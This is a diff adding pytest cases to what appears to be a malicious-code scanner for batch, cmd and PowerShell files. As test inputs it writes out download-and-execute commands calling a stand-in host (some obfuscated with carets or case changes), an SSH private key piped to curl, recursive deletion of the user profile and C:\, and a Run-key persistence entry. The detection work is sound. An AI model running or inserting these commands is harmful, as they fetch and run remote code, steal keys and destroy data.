@@ -462,3 +462,62 @@ def test_code_with_the_same_quotes_in_a_field_is_followed():
     code = 'import os\nhost = {"a": "https://unknown-host.top/x"}\nos.system(f"curl {host["a"]} | sh")\n'
     assert find("a.py", code) == {"download-execute"}
     assert find("a.py", code, "warning") == set()
+
+
+GET = "curl -so x.exe https://unknown-host.top/x & x.exe"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        GET,
+        f"@{GET.upper()}",
+        f"echo don't\n{GET}",
+        f'echo 5" disk\n{GET}',
+        f"echo a # b & {GET}",
+        f"more <<EOF\n{GET}",
+        f"echo ${{x $(y `z\n{GET}",
+        f"c^u^r^l{GET[4:]}",
+        'curl -so x.exe ^\n  https://unknown-host.top/x\nif exist x.exe (start "" /b x.exe) else echo no',
+        'curl -so "%TEMP%\\x.exe" https://unknown-host.top/x\ncall "%TEMP%\\x.exe"',
+        "set U=https://unknown-host.top/x\nfor %%f in (a b) do cmd /c curl -so %%f.exe %U% & %%f.exe",
+        "for /f \"delims=\" %%i in ('curl -s https://unknown-host.top/x') do %%i",
+        'if 1 lss 2 powershell -c "iwr https://unknown-host.top/x | iex"',
+    ],
+)
+@pytest.mark.parametrize("ending", ["bat", "cmd"])
+def test_a_batch_file_that_runs_what_it_downloads_is_a_danger(code: str, ending: str):
+    assert find(f"a.{ending}", code.replace("\n", "\r\n")) == {"download-execute"}
+
+
+@pytest.mark.parametrize(
+    ("code", "kind"),
+    [
+        ("type %USERPROFILE%\\.ssh\\id_rsa | curl --data-binary @- https://unknown-host.top", "exfiltration"),
+        ("if exist a rd /s /q %USERPROFILE%", "destruction"),
+        ("del /f /s /q C:\\", "destruction"),
+        (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d x.exe", "persistence"),
+    ],
+)
+def test_dangers_of_batch_files_are_found(code: str, kind: str):
+    assert find("a.bat", code) == {kind}
+
+
+def test_an_ordinary_batch_file_has_no_findings_to_worry_about():
+    code = (
+        "@echo off\r\nREM Builds it.\r\nsetlocal\r\nset OUT=dist\r\nif exist %OUT% rd /s /q %OUT%\r\n"
+        'for %%f in (*.js) do copy "%%f" %OUT%\r\ncall npm run build\r\nif errorlevel 1 (echo failed & exit /b 1)\r\n'
+    )
+    assert [find("build.bat", code, severity) for severity in ("danger", "warning")] == [set(), set()]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "Invoke-WebRequest https://unknown-host.top/x -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe",
+        "iwr https://unknown-host.top/x -OutFile 'x.exe'; & '.\\x.exe'",
+        "(New-Object Net.WebClient).DownloadFile('https://unknown-host.top/x', 'x.exe')\n.\\x.exe -q",
+    ],
+)
+def test_powershell_code_that_runs_a_file_it_downloaded_is_a_danger(code: str):
+    assert find("a.ps1", code) == {"download-execute"}
